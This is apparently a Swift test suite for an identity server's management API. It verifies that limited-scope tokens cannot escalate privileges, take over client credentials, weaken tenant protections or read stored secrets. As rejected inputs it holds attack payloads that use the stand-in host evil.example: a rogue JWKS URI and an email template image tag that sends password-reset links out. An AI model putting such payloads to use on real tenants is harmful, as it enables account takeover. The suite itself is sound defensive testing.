import Administration
import AuthorizationCore
import Configuration
import HTTPModel
import JOSE
import OAuthWire
import Primitives
import TestSupport
import Testing

@Suite("Management API: no token grants or gains more than its scopes")
struct ElevationTests {
    private static let chosen = JSONValue.string(String(repeating: "s", count: 40))

    private static let proofs: [JSONObject] = [
        ["client_secret": chosen], ["token_endpoint_auth_method": "none"], ["token_endpoint_auth_method": nil],
        ["client_authentication_methods": ["private_key_jwt": ["credentials": []]]], ["jwks": ["keys": []]],
        ["jwks": nil], ["jwks_uri": "https://evil.example/keys"],
        ["tls_client_certificate_bound_access_tokens": false],
        ["mobile": ["ios": ["team_id": "EVIL123456", "app_bundle_identifier": "com.evil.app"]]], ["mobile": nil],
    ]

    @Test("update:clients changes no client's credentials", arguments: proofs)
    func takeover(body: JSONObject) async throws {
        let fixture = try await ManagementFixture()
        let before = try await fixture.server.dump()
        let poor = try await fixture.with(scopes: ["create:clients", "update:clients"])
        for client in ["agent", "operator"] {
            let answer = await poor.patch("/clients/\(client)", .object(body))
            #expect(answer.status == 403 && answer.code == "insufficient_scope", "\(client) \(body): \(answer.text)")
        }
        #expect(try await fixture.server.dump() == before)
        #expect(await poor.patch("/clients/agent", ["name": "Same"]).status == 200)
        let keys = try await fixture.with(scopes: ["update:clients", "update:client_keys"])
        #expect(await keys.patch("/clients/agent", ["client_secret": Self.chosen]).status == 200)
    }

    @Test("An app that opens links of the tenant's host requires update:client_keys, also for a new client")
    func apps() async throws {
        let fixture = try await ManagementFixture()
        let body: JSONValue = [
            "name": "App", "mobile": ["ios": ["team_id": "ABCDE12345", "app_bundle_identifier": "com.example.shop"]],
        ]
        let poor = try await fixture.with(scopes: ["create:clients", "update:clients"])
        let refused = await poor.post("/clients", body)
        #expect(refused.status == 403 && refused.code == "insufficient_scope", "\(refused.text)")
        let made = await (try await fixture.with(scopes: ["create:clients", "update:client_keys"])).post(
            "/clients", body)
        #expect(made.status == 201, "\(made.text)")
    }

    @Test("A token cannot change the credentials of a client that may do more than the token")
    func keys() async throws {
        let fixture = try await ManagementFixture()
        let scopes = [
            "update:clients", "update:client_keys", "create:client_credentials", "update:client_credentials",
            "create:client_grants",
        ]
        let keys = try await fixture.with(scopes: scopes)
        let key = try Samples.clientSigner("evil").publicKey.json
        let made = await keys.post("/clients/operator/credentials", ["credential_type": "public_key", "jwk": key])
        #expect(made.status == 201, "it counts for nothing yet: \(made.text)")
        let named: JSONValue = ["private_key_jwt": ["credentials": [["id": made["id"] ?? .null]]]]
        let before = try await fixture.server.dump()
        for answer in [
            await keys.post("/clients/operator/rotate-secret", [:]),
            await keys.patch("/clients/operator", ["client_secret": Self.chosen]),
            await keys.patch("/clients/operator", ["client_authentication_methods": named]),
            await keys.patch("/clients/operator", ["token_endpoint_auth_method": "client_secret_basic"]),
        ] {
            #expect(answer.status == 403 && answer.code == "insufficient_scope", "\(answer.text)")
            #expect(answer.message.contains("read:users"), "\(answer.message)")
        }
        #expect(try await fixture.server.dump() == before)
        #expect(await keys.patch("/clients/operator", ["name": "Another name"]).status == 200)
        #expect(await keys.post("/clients/agent/rotate-secret", [:]).status == 200, "it manages nothing")
        let grant: JSONValue = [
            "client_id": "agent", "audience": .string(ManagementFixture.audience), "scope": ["update:clients"],
        ]
        #expect(await keys.post("/client-grants", grant).status == 201)
        #expect(await keys.post("/clients/agent/rotate-secret", [:]).status == 200, "no more than the token may do")
        #expect(await fixture.post("/clients/operator/rotate-secret", [:]).status == 200)
    }

    @Test("Only a token that has a scope of this API grants it; any token revokes it")
    func grants() async throws {
        let fixture = try await ManagementFixture { setup in
            setup.clients.append(Samples.client("machine") { $0.grantTypes = [.clientCredentials] })
        }
        let poor = try await fixture.with(scopes: ["create:client_grants", "update:client_grants", "read:users"])
        func create(_ members: JSONObject, _ fixture: ManagementFixture) async -> HTTPAnswer {
            let body: JSONObject = ["client_id": "machine", "audience": .string(ManagementFixture.audience)]
            return await fixture.post("/client-grants", .object(body.patched(with: members)))
        }
        for members: JSONObject in [
            ["scope": ["read:users", "update:clients"]], ["allow_all_scopes": true],
            ["scope": ["delete:users"], "subject_type": "user"],
        ] {
            let refused = await create(members, poor)
            #expect(refused.status == 403 && refused.code == "insufficient_scope", "\(members): \(refused.text)")
        }
        let own = await create(["scope": ["read:users", "read:actions"]], poor)
        #expect(own.status == 201, "\(own.text)")
        let path = "/client-grants/\(try (own["id"]?.stringValue).orThrow("no id"))"
        #expect(await poor.patch(path, ["scope": ["read:users", "read:logs"]]).code == "insufficient_scope")
        #expect(await poor.patch(path, ["allow_all_scopes": true]).code == "insufficient_scope")
        #expect(await fixture.patch(path, ["scope": ["read:users", "read:logs", "read:roles"]]).status == 200)
        #expect(await poor.patch(path, ["scope": ["read:users", "read:logs"]]).status == 200, "less is anybody's")
        #expect(await poor.patch(path, ["scope": ["read:users", "read:roles"]]).code == "insufficient_scope")
        let other: JSONObject = ["audience": .string(Samples.api), "scope": ["pay:read"]]
        #expect(await create(other, poor).status == 201, "other APIs' scopes are no rights here")
    }

    private static let mail: JSONObject = [
        "body": "<img src='https://evil.example/?{{ url | url_encode }}'>", "from": "a@example.com", "subject": "x",
        "syntax": "liquid", "enabled": true,
    ]

    @Test("Scopes of e-mail alone store no mail that carries a credential, and change no provider")
    func mails() async throws {
        let fixture = try await ManagementFixture()
        _ = await fixture.post(
            "/emails/provider", ["name": "resend", "enabled": false, "credentials": ["api_key": "k"]])
        _ = await fixture.post("/email-templates", .object(Self.mail.patched(with: ["template": "reset_email"])))
        let before = try await fixture.server.dump()
        let email = ["email_provider", "email_templates"].flatMap { object in
            ["create", "read", "update"].map { "\($0):\(object)" }
        }
        let poor = try await fixture.with(scopes: email)
        for kind in ["reset_email", "change_password", "password_reset", "verify_email", "enrollment_email"] {
            let whole = Self.mail.patched(with: ["template": .string(kind)])
            for answer in [
                await poor.post("/email-templates", .object(whole)),
                await poor.put("/email-templates/\(kind)", .object(whole)),
            ] {
                let is409 = answer.status == 409 && kind == "reset_email"
                #expect(is409 || answer.code == "insufficient_scope", "\(kind): \(answer.text)")
            }
        }
        #expect(await poor.patch("/email-templates/reset_email", ["enabled": false]).code == "insufficient_scope")
        let server: JSONValue = ["smtp_host": "evil.example", "smtp_port": 25, "smtp_user": "a", "smtp_pass": "b"]
        for body: JSONValue in [
            ["enabled": true], ["name": "smtp", "credentials": server], ["default_from_address": "a@evil.example"],
        ] {
            #expect(await poor.patch("/emails/provider", body).code == "insufficient_scope", "\(body)")
        }
        #expect(
            await poor.post("/emails/provider", ["name": "smtp", "credentials": server]).code == "insufficient_scope")
        #expect(try await fixture.server.dump() == before)
        let other = Self.mail.patched(with: ["template": "async_approval"])
        #expect(await poor.post("/email-templates", .object(other)).status == 200, "its link is no credential")
        let tickets = try await fixture.with(scopes: email + ["create:user_tickets"])
        #expect(await tickets.patch("/email-templates/reset_email", ["subject": "y"]).status == 200)
        #expect(await tickets.patch("/emails/provider", ["enabled": true]).code == "insufficient_scope")
        let both = try await fixture.with(
            scopes: email + ["create:user_tickets", "create:guardian_enrollment_tickets"])
        #expect(await both.patch("/emails/provider", ["enabled": true]).status == 200)
    }

    @Test("A name for the tenant, to which links in mails lead, needs the scopes of these links")
    func domains() async throws {
        let fixture = try await ManagementFixture()
        let poor = try await fixture.with(scopes: ["create:custom_domains"])
        #expect(await poor.post("/custom-domains", ["domain": "evil.example"]).code == "insufficient_scope")
    }

    @Test(
        "update:tenant_settings alone destroys no evidence and turns no protection of people off",
        arguments: [
            ["approval_retention": 86_400], ["approval_retention": nil], ["evidence": nil], ["report_pause": 0],
            ["rejection_pause": 0], ["rejections_before_pause": 1000], ["requests_per_minute_per_user": 1000],
            ["pending_requests_per_user": 1000], ["matching": nil], ["login_matching": "off"],
            ["log_ins_per_minute_per_address": 5, "brute_force_protection": ["window": 60]],
            ["brute_force_protection": nil], ["password_minimum_length": 8], ["session_lifetime": 8000],
            ["idle_session_lifetime": 8000], ["link_verified_emails": true], ["enrollment_ticket_lifetime": 2_592_000],
        ] as [JSONObject])
    func protections(body: JSONObject) async throws {
        let fixture = try await ManagementFixture()
        let before = try await fixture.server.dump()
        let poor = try await fixture.with(scopes: ["update:tenant_settings"])
        let answer = await poor.patch("/tenants/settings", .object(body))
        #expect(answer.status == 403 && answer.code == "insufficient_scope", "\(body): \(answer.text)")
        #expect(try await fixture.server.dump() == before)
    }

    @Test("A setting of the server's resources rises to the operator's ceiling; the operator's own value may stay")
    func ceilings() async throws {
        let fixture = try await ManagementFixture {
            $0.tenant.settings.managementRequestsPerMinute = 900_000
        }
        let poor = try await fixture.with(scopes: ["update:tenant_settings"])
        func set(_ name: String, _ value: Int) async -> HTTPAnswer {
            await poor.patch("/tenants/settings", .object([name: .number(JSONNumber(value))]))
        }
        let ceilings = TenantCeilings()
        for (name, ceiling) in [
            ("pending_requests", ceilings.pendingRequests),
            ("client_tokens_per_minute", ceilings.clientTokensPerMinute),
            ("logins_per_minute_per_address", ceilings.loginsPerMinutePerAddress),
        ] {
            let refused = await set(name, ceiling + 1)
            #expect(refused.code == "invalid_body" && refused.message.contains("at most \(ceiling)"), "\(refused.text)")
            #expect(await set(name, ceiling).status == 200, "\(name)")
        }
        #expect(await set("management_requests_per_minute", 900_001).status == 400)
        #expect(await set("management_requests_per_minute", 800_000).status == 200, "lower than the operator's")
        #expect(await set("management_requests_per_minute", 800_001).status == 400)
    }

    @Test("An API's demands for evidence and matching cannot be dropped by leaving them out")
    func demands() async throws {
        let fixture = try await ManagementFixture()
        let made = await fixture.post(
            "/resource-servers",
            [
                "identifier": "https://e.example/", "evidence": "signed-digest",
                "authorization_details": [
                    ["type": "pay", "evidence": "passkey", "matching": "choose"], ["type": "look"],
                ],
            ])
        let path = "/resource-servers/\(try (made["id"]?.stringValue).orThrow(made.text))"
        let poor = try await fixture.with(scopes: ["update:resource_servers"])
        for types: JSONValue in [
            [["type": "pay"]], [["type": "look"]], [], .null, [["type": "pay", "evidence": "signed-digest"]],
            [["type": "pay", "evidence": "passkey", "matching": "choose", "urgent": true], ["type": "look"]],
        ] {
            let answer = await poor.patch(path, ["authorization_details": types])
            #expect(answer.code == "insufficient_scope", "\(types): \(answer.text)")
        }
        for body: JSONValue in [["evidence": nil], ["approval_in_tokens": false]] {
            #expect(await poor.patch(path, body).code == "insufficient_scope", "\(body)")
        }
        #expect(await poor.patch(path, ["name": "E"]).status == 200)
        let able = try await fixture.with(
            scopes: ["update:resource_servers", "update:approval_evidence", "update:mfa_policies"])
        #expect(await able.patch(path, ["authorization_details": [["type": "look"]]]).status == 200)
    }

    @Test("An API's demands cannot be dropped by removing it and creating it again")
    func removedDemands() async throws {
        let fixture = try await ManagementFixture()
        let poor = try await fixture.with(scopes: ["delete:resource_servers"])
        for (index, demand)
            in ([
                ["evidence": "signed-digest"], ["approval_in_tokens": true],
                ["consent_policy": "transactional-authorization-with-mfa"],
                ["authorization_details": [["type": "pay", "matching": "choose"]]],
                ["authorization_details": [["type": "pay", "evidence": "passkey"]]],
            ] as [JSONObject]).enumerated()
        {
            var body = demand
            body["identifier"] = .string("https://e\(index).example/")
            let made = await fixture.post("/resource-servers", .object(body))
            let path = "/resource-servers/\(try (made["id"]?.stringValue).orThrow(made.text))"
            #expect(await poor.delete(path).code == "insufficient_scope", "\(demand)")
            #expect(await fixture.delete(path).status == 204)
        }
        let plain = await fixture.post("/resource-servers", ["identifier": "https://plain.example/"])
        let id = try (plain["id"]?.stringValue).orThrow(plain.text)
        #expect(await poor.delete("/resource-servers/\(id)").status == 204)
    }

    @Test("A user whose decisions are kept for receipts is deleted only with the scope of evidence")
    func keptDecisions() async throws {
        let fixture = try await ManagementFixture { $0.clients.append(Samples.client()) }
        let phone = try await InProcessPhone(in: fixture.server)
        let client = InProcessClient(via: fixture.server)
        #expect(try await phone.decide(try await client.started()).status == 204)
        let poor = try await fixture.with(scopes: ["delete:users"])
        let path = "/users/auth0%7Cann"
        let refused = await poor.delete(path)
        #expect(refused.code == "insufficient_scope" && refused.text.contains("update:approval_evidence"))
        #expect(await fixture.get(path).status == 200, "nothing was changed")
        #expect(await poor.delete("/users/auth0%7Cbob").status == 204)
        fixture.server.advance(.seconds(500 * 86_400))
        let later = try await fixture.with(scopes: ["delete:users"])
        #expect(await later.delete(path).status == 204)
    }

    @Test("Tenant settings that /guardian also has require its scopes")
    func settings() async throws {
        let fixture = try await ManagementFixture()
        let poor = try await fixture.with(scopes: ["update:tenant_settings"])
        for body: JSONValue in [["multi_factor": "never"], ["push_enabled": false], ["multi_factor": nil]] {
            #expect(await poor.patch("/tenants/settings", body).code == "insufficient_scope")
        }
        #expect(await poor.patch("/tenants/settings", ["friendly_name": "Bank"]).status == 200)
    }

    @Test("No read operation shows a secret, even to a token with all scopes")
    func reading() async throws {
        let fixture = try await ManagementFixture()
        let secret = "a-secret-that-nobody-is-shown-\(String(repeating: "z", count: 20))"
        let client = await fixture.post("/clients", ["name": "A", "client_secret": .string(secret)])
        #expect(client.status == 201, "\(client.text)")
        let bodies: [(String, JSONValue)] = [
            (
                "/connections",
                [
                    "name": "staff", "strategy": "oidc",
                    "options": [
                        "issuer": "https://id.example/", "client_id": "us", "client_secret": .string(secret),
                    ],
                ]
            ), ("/emails/provider", ["name": "resend", "credentials": ["api_key": .string(secret)]]),
        ]
        for (path, body) in bodies { #expect(await fixture.post(path, body).status == 201, "\(path)") }
        let push = "/guardian/factors/push-notification/providers/fcm"
        #expect(await fixture.put(push, ["server_key": .string(secret)]).status == 200)
        let id = client["client_id"]?.stringValue ?? ""
        for path in [
            "/clients", "/clients/\(id)", "/clients/\(id)/credentials", "/connections", "/emails/provider", push,
            "/tenants/settings", "/logs", "/keys/signing",
        ] {
            let answer = await fixture.get(path)
            #expect(answer.status == 200, "\(path): \(answer.text)")
            #expect(!answer.text.contains(secret), "\(path)")
            #expect(!answer.text.contains(Hex.encode(Samples.hashing.sha256(Array(secret.utf8)))), "\(path)")
        }
    }
}
